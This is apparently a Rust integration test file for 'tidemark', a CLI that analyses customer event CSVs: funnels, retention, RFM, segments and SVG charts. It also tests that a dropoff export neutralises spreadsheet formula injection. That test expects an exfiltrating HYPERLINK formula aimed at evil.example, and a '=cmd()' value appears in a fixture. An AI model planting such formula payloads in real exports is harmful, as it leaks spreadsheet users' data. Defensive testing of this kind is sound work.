//! The process boundary: the real `tidemark` binary, its JSON on stdout, and its
//! `file:line: reason` errors on stderr with a non-zero exit.

#[path = "common/bad.rs"]
mod bad;
mod common;

use common::svg::texts;
use std::io::Write;
use std::path::PathBuf;
use std::process::{Command, Output, Stdio};

fn tidemark(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_tidemark"))
        .args(args)
        .output()
        .expect("the binary runs")
}

fn tidemark_stdin(args: &[&str], input: &str) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_tidemark"))
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("the binary runs");
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(input.as_bytes())
        .expect("write");
    child.wait_with_output().expect("wait")
}

fn data(name: &str) -> String {
    format!("{}/tests/data/{name}", env!("CARGO_MANIFEST_DIR"))
}

fn temp_file(name: &str, content: &[u8]) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("tidemark-cli-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let path = dir.join(name);
    std::fs::write(&path, content).expect("write temp file");
    path
}

fn json(out: &Output) -> serde_json::Value {
    assert!(
        out.status.success(),
        "stderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).expect("stdout is JSON")
}

fn stderr(out: &Output) -> String {
    assert!(
        !out.status.success(),
        "expected failure, got: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    String::from_utf8_lossy(&out.stderr).trim().to_string()
}

#[test]
fn inspect_cdnow() {
    let v = json(&tidemark(&["inspect", &data("cdnow_sample.csv")]));
    assert_eq!(v["rows_read"], 6919);
    assert_eq!(v["rows"], 6919);
    assert_eq!(v["users"], 2357);
    assert_eq!(v["columns"][0]["role"], "user");
    assert_eq!(v["columns"][1]["role"], "time");
    assert_eq!(v["columns"][3]["role"], "revenue");
    assert_eq!(v["events"][0]["name"], "purchase");
    assert_eq!(v["first_time"], "1997-01-01T00:00:00Z");
    // Total revenue, against the amount column summed here.
    let text = std::fs::read_to_string(data("cdnow_sample.csv")).expect("read");
    let want: f64 = text
        .lines()
        .skip(1)
        .map(|l| l.rsplit(',').next().unwrap().parse::<f64>().unwrap())
        .sum();
    let got = v["revenue_total"].as_f64().expect("a number");
    assert!((got - want).abs() < 1e-6, "{got} vs {want}");
    assert_eq!(v["revenue_rows"], 6919);
}

#[test]
fn inspect_revenue_total_counts_numbers_only_and_is_null_without_a_column() {
    let f = temp_file(
        "revenue.csv",
        b"user,time,event,amount\na,2024-01-01,view,\na,2024-01-02,buy,12.5\nb,2024-01-03,buy,\"1,000.25\"\n,2024-01-04,buy,99\n",
    );
    let path = f.to_str().expect("utf-8 path");
    let v = json(&tidemark(&["inspect", path]));
    // The empty cell adds nothing; the row without a user is skipped, not summed.
    assert_eq!(v["revenue_total"], 1012.75);
    assert_eq!(v["revenue_rows"], 2);
    let v = json(&tidemark(&["inspect", path, "--roles", "revenue="]));
    assert_eq!(v["revenue_total"], serde_json::Value::Null);
    assert_eq!(v["revenue_rows"], 0);
}

#[test]
fn inspect_with_roles_and_tz_flags() {
    let f = temp_file(
        "roles.csv",
        b"a,b,c\nx,2024-01-01 08:00,buy\ny,2024-01-02 09:00,view\n",
    );
    let path = f.to_str().expect("utf-8 path");
    let v = json(&tidemark(&[
        "inspect",
        path,
        "--roles",
        "user=a,time=b,event=c",
        "--tz",
        "Asia/Shanghai",
    ]));
    assert_eq!(v["users"], 2);
    assert_eq!(v["time_zone"], "Asia/Shanghai");
    assert_eq!(v["first_time"], "2024-01-01T00:00:00Z");
    assert_eq!(v["columns"][0]["reason"], "set by you");
}

#[test]
fn inspect_missing_file_errored() {
    let e = stderr(&tidemark(&["inspect", "/nonexistent/x.csv"]));
    assert!(
        e.starts_with("/nonexistent/x.csv: cannot read the file:"),
        "{e}"
    );
}

#[test]
fn inspect_unterminated_quote_errored() {
    let f = temp_file("quote.csv", b"user_id,time\nu,2024-01-01\nu,\"2024\n");
    let e = stderr(&tidemark(&["inspect", f.to_str().expect("path")]));
    assert!(
        e.ends_with("quote.csv:3: a quoted field starts here and is never closed"),
        "{e}"
    );
}

#[test]
fn inspect_bad_roles_flag_errored() {
    let e = stderr(&tidemark(&[
        "inspect",
        &data("cdnow_sample.csv"),
        "--roles",
        "user",
    ]));
    assert_eq!(e, "--roles: \"user\" is not ROLE=COLUMN");
    let e = stderr(&tidemark(&[
        "inspect",
        &data("cdnow_sample.csv"),
        "--roles",
        "user=nope",
    ]));
    assert!(
        e.contains("names column \"nope\", which is not in the file"),
        "{e}"
    );
}

#[test]
fn run_bad_spec_errored() {
    let e = stderr(&tidemark_stdin(
        &["run", &data("cdnow_sample.csv"), "--spec", "-"],
        "{\"analysis\":\"nope\"}",
    ));
    assert!(
        e.starts_with("-: bad spec: unknown analysis \"nope\""),
        "{e}"
    );
    let e = stderr(&tidemark_stdin(
        &["run", &data("cdnow_sample.csv"), "--spec", "-"],
        "not json",
    ));
    assert!(e.contains("bad spec: not valid JSON"), "{e}");
}

const EVENTS: &str = "user_id,event,timestamp,channel\n\
u1,view,2024-01-01T10:00:00Z,ads\n\
u1,cart,2024-01-01T10:05:00Z,ads\n\
u1,buy,2024-01-01T11:05:00Z,ads\n\
u2,view,2024-01-02T10:00:00Z,seo\n\
u2,cart,2024-01-02T10:10:00Z,seo\n\
u3,view,2024-01-03T10:00:00Z,=cmd()\n\
u4,cart,2024-01-03T10:00:00Z,seo\n";

const FUNNEL: &str = r#"{"analysis":"funnel","steps":[{"event":"view"},{"event":"cart"},{"event":"buy"}],"window":"1d","breakdown":"channel"}"#;

#[test]
fn run_funnel_prints_the_contract_fields() {
    let f = temp_file("events.csv", EVENTS.as_bytes());
    let v = json(&tidemark_stdin(
        &["run", f.to_str().expect("path"), "--spec", "-"],
        FUNNEL,
    ));
    assert_eq!(v["analysis"], "funnel");
    let users: Vec<u64> = v["steps"]
        .as_array()
        .expect("steps")
        .iter()
        .map(|s| s["users"].as_u64().expect("n"))
        .collect();
    assert_eq!(users, vec![3, 2, 1]);
    assert_eq!(v["steps"][1]["conversion_from_previous"], 2.0 / 3.0);
    assert_eq!(v["steps"][1]["dropoff"], 1);
    // cart after view: 5 min (u1) and 10 min (u2): median = mean = 450 s.
    assert_eq!(v["steps"][1]["median_seconds_from_previous"], 450.0);
    assert_eq!(v["steps"][2]["median_seconds_from_previous"], 3600.0);
    assert_eq!(
        v["steps"][0]["conversion_from_previous"],
        serde_json::Value::Null
    );
    let values: Vec<&str> = v["breakdown"]
        .as_array()
        .expect("buckets")
        .iter()
        .map(|b| b["value"].as_str().expect("v"))
        .collect();
    assert_eq!(values, vec!["=cmd()", "ads", "seo"]);
}

#[test]
fn dropoff_prints_users_as_csv() {
    let f = temp_file("events2.csv", EVENTS.as_bytes());
    let spec = temp_file("funnel.json", FUNNEL.as_bytes());
    let out = tidemark(&[
        "dropoff",
        f.to_str().expect("path"),
        "--spec",
        spec.to_str().expect("path"),
        "--step",
        "1",
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(String::from_utf8_lossy(&out.stdout), "user\nu3\n");
    let out = tidemark(&[
        "dropoff",
        f.to_str().expect("path"),
        "--spec",
        spec.to_str().expect("path"),
        "--step",
        "3",
    ]);
    assert!(stderr(&out).contains("step 3 is not between 1 and 2"));
}

#[test]
fn run_funnel_unknown_column_errored() {
    let f = temp_file("events3.csv", EVENTS.as_bytes());
    let spec = r#"{"analysis":"funnel","steps":[{"event":"view","where":{"chanel":"ads"}},{"event":"buy"}]}"#;
    let e = stderr(&tidemark_stdin(
        &["run", f.to_str().expect("path"), "--spec", "-"],
        spec,
    ));
    assert!(e.contains("no column \"chanel\""), "{e}");
}

#[test]
fn run_repurchase_retention_and_lifecycle_on_cdnow() {
    let cdnow = data("cdnow_sample.csv");
    let run = |spec: &str| json(&tidemark_stdin(&["run", &cdnow, "--spec", "-"], spec));
    let v = run(r#"{"analysis":"repurchase","within_days":[90]}"#);
    assert_eq!(v["analysis"], "repurchase");
    assert_eq!(v["purchase_event"], "purchase");
    assert_eq!(v["rates"][0]["eligible"], 2357);
    assert_eq!(v["rates"][0]["repeaters"], 705);
    let v = run(
        r#"{"analysis":"retention","period":"month","start_event":null,"return_event":null,"periods":12,"mode":"bounded","measure":"revenue"}"#,
    );
    assert_eq!(v["cohorts"][0]["start"], "1997-01-01");
    assert_eq!(v["cohorts"][0]["retained"][0], v["cohorts"][0]["size"]);
    assert_eq!(v["cohorts"][0]["retained"].as_array().unwrap().len(), 13);
    assert!(
        v["cohorts"][0]["cumulative_revenue_per_user"][12]
            .as_f64()
            .unwrap()
            > 0.0
    );
    let v = run(r#"{"analysis":"lifecycle","period":"month","event":null}"#);
    assert_eq!(v["periods"][0]["start"], "1997-01-01");
    assert_eq!(v["periods"].as_array().unwrap().len(), 18);
    assert_eq!(v["periods"][17]["start"], "1998-06-01");
}

#[test]
fn dropoff_needs_a_funnel_errored() {
    let spec = temp_file("lifecycle.json", br#"{"analysis":"lifecycle"}"#);
    let spec = spec.to_str().expect("path");
    let cdnow = data("cdnow_sample.csv");
    let e = stderr(&tidemark(&[
        "dropoff", &cdnow, "--spec", spec, "--step", "1",
    ]));
    assert!(
        e.ends_with(
            "lifecycle.json: bad spec: dropoff needs a funnel spec ({\"analysis\":\"funnel\", …})"
        ),
        "{e}"
    );
}

// ---------------------------------------------------------------- --svg

/// A fresh empty directory for one test's charts.
fn svg_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("tidemark-svg-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("temp dir");
    dir
}

/// Runs `spec` on `data` with `--svg DIR/chart.svg`; returns the result JSON and
/// the files written, by name, with their `<text>` contents.
fn run_svg(data: &str, spec: &str, name: &str) -> (serde_json::Value, Vec<(String, Vec<String>)>) {
    let dir = svg_dir(name);
    let main = dir.join("chart.svg");
    let v = json(&tidemark_stdin(
        &[
            "run",
            data,
            "--spec",
            "-",
            "--svg",
            main.to_str().expect("path"),
        ],
        spec,
    ));
    let mut files: Vec<(String, Vec<String>)> = std::fs::read_dir(&dir)
        .expect("read dir")
        .map(|e| {
            let path = e.expect("entry").path();
            let svg = std::fs::read_to_string(&path).expect("read svg");
            assert!(svg.starts_with("<svg") && svg.trim_end().ends_with("</svg>"));
            let name = path
                .file_name()
                .expect("name")
                .to_string_lossy()
                .to_string();
            (name, texts(&svg))
        })
        .collect();
    files.sort();
    (v, files)
}

fn names(files: &[(String, Vec<String>)]) -> Vec<&str> {
    files.iter().map(|(n, _)| n.as_str()).collect()
}

#[track_caller]
fn has(files: &[(String, Vec<String>)], file: &str, text: &str) {
    let (_, found) = files.iter().find(|(n, _)| n == file).expect(file);
    assert!(
        found.iter().any(|t| t == text),
        "{text:?} in {file}: {found:?}"
    );
}

#[test]
fn svg_draws_the_funnel() {
    let f = temp_file("svg-events.csv", EVENTS.as_bytes());
    let (_, files) = run_svg(f.to_str().expect("path"), FUNNEL, "funnel");
    assert_eq!(names(&files), ["chart.svg"]);
    for text in ["view", "cart", "buy", "ads", "seo", "=cmd()"] {
        has(&files, "chart.svg", text);
    }
}

#[test]
fn svg_draws_the_retention_heatmap_and_curve() {
    let cdnow = data("cdnow_sample.csv");
    let (v, files) = run_svg(
        &cdnow,
        r#"{"analysis":"retention","period":"month","periods":6}"#,
        "retention",
    );
    assert_eq!(names(&files), ["chart-curve.svg", "chart.svg"]);
    // The heatmap: every cohort's row (the file grows to hold them all).
    let cohorts = v["cohorts"].as_array().expect("cohorts");
    assert_eq!(cohorts.len(), 3);
    for c in cohorts {
        has(&files, "chart.svg", c["start"].as_str().expect("start"));
    }
    has(&files, "chart.svg", "100%");
    has(&files, "chart-curve.svg", "Active users, % of the cohort");
    // The curve's point at k = 1, from the report.
    let rate = v["average"]["rate"][1].as_f64().expect("rate");
    has(&files, "chart-curve.svg", &format!("{:.1}%", rate * 100.0));
}

#[test]
fn svg_in_chinese_with_lang_zh_and_the_same_json() {
    let cdnow = data("cdnow_sample.csv");
    let spec = r#"{"analysis":"retention","period":"month","periods":6}"#;
    let (en_json, _) = run_svg(&cdnow, spec, "lang-en");
    let dir = svg_dir("lang-zh");
    let main = dir.join("chart.svg");
    let out = tidemark_stdin(
        &[
            "run",
            &cdnow,
            "--spec",
            "-",
            "--svg",
            main.to_str().expect("path"),
            "--lang",
            "zh",
        ],
        spec,
    );
    assert_eq!(
        json(&out),
        en_json,
        "the result JSON does not depend on --lang"
    );
    let heat = texts(&std::fs::read_to_string(&main).expect("heatmap"));
    let curve = texts(&std::fs::read_to_string(dir.join("chart-curve.svg")).expect("curve"));
    assert!(heat.iter().any(|t| t == "同期群"), "{heat:?}");
    assert!(!heat.iter().any(|t| t == "Cohort"), "{heat:?}");
    assert!(
        curve.iter().any(|t| t == "活跃用户占同期群的百分比"),
        "{curve:?}"
    );
}

#[test]
fn svg_draws_ltv_curves_with_the_revenue_measure() {
    let cdnow = data("cdnow_sample.csv");
    let (v, files) = run_svg(
        &cdnow,
        r#"{"analysis":"retention","period":"month","periods":6,"measure":"revenue"}"#,
        "ltv",
    );
    assert_eq!(
        names(&files),
        ["chart-curve.svg", "chart-ltv.svg", "chart.svg"]
    );
    has(
        &files,
        "chart-ltv.svg",
        "Cumulative revenue per cohort user",
    );
    has(&files, "chart.svg", "Cohort");
    // The heatmap shows revenue per cohort user: k = 0 of the first cohort.
    let k0 = v["cohorts"][0]["revenue_per_user"][0].as_f64().expect("k0");
    has(&files, "chart.svg", &format!("{k0:.1}"));
}

#[test]
fn svg_draws_the_repurchase_charts() {
    let cdnow = data("cdnow_sample.csv");
    let (v, files) = run_svg(
        &cdnow,
        r#"{"analysis":"repurchase","within_days":[30,90]}"#,
        "repurchase",
    );
    assert_eq!(
        names(&files),
        ["chart-by-month.svg", "chart-rates.svg", "chart.svg"]
    );
    has(
        &files,
        "chart.svg",
        "Repeat buyers by days from the first to the second purchase",
    );
    let first = v["by_first_month"][0]["month"].as_str().expect("month");
    has(&files, "chart-by-month.svg", first);
}

#[test]
fn svg_draws_the_lifecycle() {
    let cdnow = data("cdnow_sample.csv");
    let (_, files) = run_svg(
        &cdnow,
        r#"{"analysis":"lifecycle","period":"month"}"#,
        "lifecycle",
    );
    assert_eq!(names(&files), ["chart.svg"]);
    for text in ["New", "Returning", "Resurrecting", "Dormant"] {
        has(&files, "chart.svg", text);
    }
}

#[test]
fn svg_for_an_analysis_without_a_chart_errored_before_loading() {
    let dir = svg_dir("clv");
    let svg = dir.join("never.svg");
    let e = stderr(&tidemark_stdin(
        &[
            "run",
            "/nonexistent/data.csv",
            "--spec",
            "-",
            "--svg",
            svg.to_str().expect("path"),
        ],
        r#"{"analysis":"clv","unit":"week","calibration_end":"1997-09-30","horizon":39}"#,
    ));
    assert!(e.contains("--svg: this analysis has no chart"), "{e}");
    assert!(!svg.exists());
}

#[test]
fn svg_into_a_missing_directory_errored() {
    let svg = svg_dir("missing").join("no/such/dir/chart.svg");
    let e = stderr(&tidemark_stdin(
        &[
            "run",
            &data("cdnow_sample.csv"),
            "--spec",
            "-",
            "--svg",
            svg.to_str().expect("path"),
        ],
        r#"{"analysis":"lifecycle","period":"month"}"#,
    ));
    assert!(e.contains("chart.svg: "), "{e}");
    assert!(e.contains("cannot write the lifecycle chart"), "{e}");
}

#[test]
fn run_rfm_and_tiers_on_cdnow_with_the_grid_as_svg() {
    let cdnow = data("cdnow_sample.csv");
    let spec = temp_file(
        "rfm.json",
        br#"{"analysis":"rfm","purchase_event":"purchase","as_of":null,"users":true}"#,
    );
    let svg = temp_file("rfm.svg", b"");
    let v = json(&tidemark(&[
        "run",
        &cdnow,
        "--spec",
        spec.to_str().expect("path"),
        "--svg",
        svg.to_str().expect("path"),
    ]));
    assert_eq!(v["analysis"], "rfm");
    assert_eq!(v["buyers"], 2357);
    assert_eq!(v["non_buyers"], 0);
    assert_eq!(v["as_of"], "1998-06-30T00:00:00Z");
    assert_eq!(v["revenue_decimals"], 2);
    let segments = v["segments"].as_array().expect("segments");
    assert_eq!(segments.len(), 11);
    let sum = |key: &str| -> u64 { segments.iter().map(|s| s[key].as_u64().unwrap()).sum() };
    assert_eq!(sum("users"), 2357);
    assert_eq!(sum("purchases"), v["purchases"].as_u64().unwrap());
    assert_eq!(v["grid"].as_array().expect("grid").len(), 25);
    assert_eq!(v["users"].as_array().expect("users").len(), 2357);
    let drawn = std::fs::read_to_string(&svg).expect("the SVG was written");
    assert!(
        drawn.starts_with("<svg"),
        "{}",
        &drawn[..drawn.len().min(80)]
    );
    assert!(drawn.contains("Champions"));

    let run = |spec: &str| json(&tidemark_stdin(&["run", &cdnow, "--spec", "-"], spec));
    let v = run(r#"{"analysis":"tiers","metric":"revenue","by":"share","high":0.2,"mid":0.5}"#);
    assert_eq!(v["analysis"], "tiers");
    let tiers = v["tiers"].as_array().expect("tiers");
    let names: Vec<&str> = tiers.iter().map(|t| t["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["high", "mid", "low"]);
    let users: u64 = tiers.iter().map(|t| t["users"].as_u64().unwrap()).sum();
    assert_eq!(users, 2357);
    assert!(tiers[0]["users"].as_u64().unwrap() >= 472); // ⌈0.2 · 2357⌉
    assert!(v["thresholds"]["high"].as_f64().unwrap() > v["thresholds"]["mid"].as_f64().unwrap());
}

#[test]
fn run_tiers_bad_thresholds_errored() {
    let cdnow = data("cdnow_sample.csv");
    let e = stderr(&tidemark_stdin(
        &["run", &cdnow, "--spec", "-"],
        r#"{"analysis":"tiers","by":"value","high":10}"#,
    ));
    assert!(
        e.ends_with(
            "-: bad spec: tiers: by value, give both \"high\" and \"mid\" as revenue values (e.g. \"high\": 500, \"mid\": 100)"
        ),
        "{e}"
    );
}

/// Checks the binary's `inspect` of `path` against a corpus outcome: the exact
/// `file:line: reason` on stderr with exit code 1, or the exact skip tallies and
/// `rows_read = rows + Σ skipped` in the JSON.
fn check_inspect(path: &str, want: bad::Outcome) {
    let out = tidemark(&["inspect", path]);
    match want {
        bad::Outcome::Refused(text) => {
            assert_eq!(out.status.code(), Some(1), "{path}");
            assert_eq!(stderr(&out), format!("{path}{text}"));
        }
        bad::Outcome::Loaded { rows, skipped } => {
            let v = json(&out);
            assert_eq!(v["rows"], rows, "{path}");
            let got: Vec<(String, u64, Vec<u64>)> = v["skipped"]
                .as_array()
                .expect("skipped")
                .iter()
                .map(|s| {
                    (
                        s["reason"].as_str().expect("reason").to_string(),
                        s["count"].as_u64().expect("count"),
                        serde_json::from_value(s["lines"].clone()).expect("lines"),
                    )
                })
                .collect();
            let want: Vec<(String, u64, Vec<u64>)> = skipped
                .iter()
                .map(|(r, c, l)| (r.to_string(), *c, l.to_vec()))
                .collect();
            assert_eq!(got, want, "{path}");
            let total: u64 = got.iter().map(|s| s.1).sum();
            assert_eq!(v["rows_read"], rows + total, "{path}: rows_read");
        }
    }
}

#[test]
fn inspect_the_bad_input_corpus() {
    for (name, want) in bad::CORPUS {
        check_inspect(&bad::path(name), *want);
    }
    let big = temp_file("big_field.csv", &bad::big_field());
    let wide = temp_file("wide.csv", &bad::wide());
    for f in [big, wide] {
        check_inspect(
            f.to_str().expect("path"),
            bad::Outcome::Loaded {
                rows: 3,
                skipped: &[],
            },
        );
    }
}

#[test]
fn dropoff_export_neutralises_formula_cells() {
    let spec = temp_file(
        "formula_funnel.json",
        br#"{"analysis":"funnel","steps":[{"event":"purchase"},{"event":"view"}],"window":"30d"}"#,
    );
    let out = tidemark(&[
        "dropoff",
        &bad::path("formula_injection.csv"),
        "--spec",
        spec.to_str().expect("path"),
        "--step",
        "1",
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The one buyer never viewed after; the id is a formula, exported inert.
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "user\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"click\"\")\"\n"
    );
}

#[test]
fn max_memory_flag_refuses_a_load_that_would_not_fit() {
    // The demo log (about 3.5 MB) needs more than 2 MB: refused after its first
    // 256 KB with the numbers; with 100 MB it loads.
    let csv = tidemark::demo::demo_csv();
    let demo = temp_file("demo_mem.csv", csv.as_bytes());
    let path = demo.to_str().expect("path");
    let out = tidemark(&["inspect", path, "--max-memory-mb", "2"]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    let mb = csv.len() as f64 / 1e6;
    assert!(
        err.starts_with(&format!(
            "{path}: the file is too large to analyse here: its {mb:.1} MB would need about"
        )) && err.ends_with(
            "more than the limit of 2.0 MB; split it into smaller files (e.g. by date range)"
        ),
        "{err}"
    );
    let v = json(&tidemark(&["inspect", path, "--max-memory-mb", "100"]));
    assert_eq!(v["rows"], v["rows_read"]);
    let out = tidemark(&["inspect", path, "--max-memory-mb", "0"]);
    assert_eq!(out.status.code(), Some(2), "clap refuses 0");
}

#[test]
fn run_a_rule_segment_with_an_attribute_file() {
    let events = temp_file(
        "seg_events.csv",
        b"user,time,event,amount\na,2024-01-01,view,\na,2024-01-02,purchase,12.5\nb,2024-01-03,purchase,5\nb,2024-01-04,purchase,5\nc,2024-01-05,view,\n",
    );
    let users = temp_file("seg_users.csv", b"id,plan\na,pro\nb,free\nzz,pro\n");
    let spec = temp_file(
        "seg_spec.json",
        br#"{"analysis":"segment","rule":"plan = \"pro\" or purchases >= 2","users":true}"#,
    );
    let out = tidemark(&[
        "run",
        events.to_str().unwrap(),
        "--spec",
        spec.to_str().unwrap(),
        "--attributes",
        users.to_str().unwrap(),
    ]);
    let v = json(&out);
    assert_eq!(v["users"], 2);
    assert_eq!(v["total_users"], 3);
    assert_eq!(v["members"][0]["user"], "a");
    assert_eq!(v["members"][1]["purchases"], 2);
    let note = String::from_utf8_lossy(&out.stderr);
    assert!(
        note.contains(
            "3 rows, 2 users matched (1 users of the data have no row), 1 ids not in the data: zz"
        ),
        "{note}"
    );
    // A funnel filtered by the attribute.
    let funnel = temp_file(
        "seg_funnel.json",
        br#"{"analysis":"funnel","steps":[{"event":"view"},{"event":"purchase"}],"segment":{"rule":"plan = \"pro\""}}"#,
    );
    let v = json(&tidemark(&[
        "run",
        events.to_str().unwrap(),
        "--spec",
        funnel.to_str().unwrap(),
        "--attributes",
        users.to_str().unwrap(),
    ]));
    assert_eq!(v["segment"]["users"], 1);
    assert_eq!(v["steps"][1]["users"], 1);
}

#[test]
fn run_a_bad_rule_or_attribute_file_errored() {
    let events = temp_file(
        "seg_events2.csv",
        b"user,time,event\na,2024-01-01,view\nb,2024-01-03,purchase\n",
    );
    let spec = temp_file(
        "seg_bad.json",
        br#"{"analysis":"segment","rule":"purchases >= 2 and"}"#,
    );
    let e = stderr(&tidemark(&[
        "run",
        events.to_str().unwrap(),
        "--spec",
        spec.to_str().unwrap(),
    ]));
    assert_eq!(
        e,
        "bad segment rule, column 19: expected a condition after 'and'"
    );
    let users = temp_file("seg_dup.csv", b"id,plan\na,pro\na,free\n");
    let ok_spec = temp_file(
        "seg_ok.json",
        br#"{"analysis":"segment","rule":"events > 0"}"#,
    );
    let e = stderr(&tidemark(&[
        "run",
        events.to_str().unwrap(),
        "--spec",
        ok_spec.to_str().unwrap(),
        "--attributes",
        users.to_str().unwrap(),
    ]));
    assert!(
        e.ends_with(
            "seg_dup.csv:3: user id \"a\" is also on line 2: an attribute file has one row per user"
        ),
        "{e}"
    );
}

#[test]
fn svg_draws_paths_drivers_and_basket() {
    let f = temp_file("svg-paths.csv", EVENTS.as_bytes());
    let data = f.to_str().expect("path");
    let (v, files) = run_svg(
        data,
        r#"{"analysis":"paths","event":"view","steps":2,"min_share":0}"#,
        "paths",
    );
    assert_eq!(v["analysis"], "paths");
    assert_eq!(v["users"], 3);
    assert_eq!(names(&files), ["chart.svg"]);
    has(&files, "chart.svg", "cart 2");
    let (v, files) = run_svg(
        data,
        r#"{"analysis":"funnel_drivers","funnel":{"steps":[{"event":"view"},{"event":"cart"}]},"min_group":1}"#,
        "drivers",
    );
    // u1, u2 convert (view → cart), u3 does not: channel = seo is with u2 only.
    assert_eq!(
        (v["entered"].as_u64(), v["converted"].as_u64()),
        (Some(3), Some(2))
    );
    assert_eq!(names(&files), ["chart.svg"]);
    let orders = temp_file(
        "svg-orders.csv",
        b"user_id,order_id,timestamp,sku\nu1,o1,2024-01-01T10:00:00Z,tea\nu1,o1,2024-01-01T10:00:00Z,cup\nu2,o2,2024-01-02T10:00:00Z,tea\nu2,o2,2024-01-02T10:00:00Z,cup\nu3,o3,2024-01-02T10:00:00Z,tea\n",
    );
    let (v, files) = run_svg(
        orders.to_str().expect("path"),
        r#"{"analysis":"basket","item":"sku","order":"order_id","min_support":0.5}"#,
        "basket",
    );
    // {tea, cup} in 2 of 3 baskets: cup → tea has confidence 1, lift 1 / (3/3) = 1.
    assert_eq!(v["baskets"], 3);
    assert_eq!(v["rules"][0]["antecedent"][0], "cup");
    assert_eq!(v["rules"][0]["lift"], 1.0);
    assert_eq!(names(&files), ["chart.svg"]);
    has(&files, "chart.svg", "cup");
}
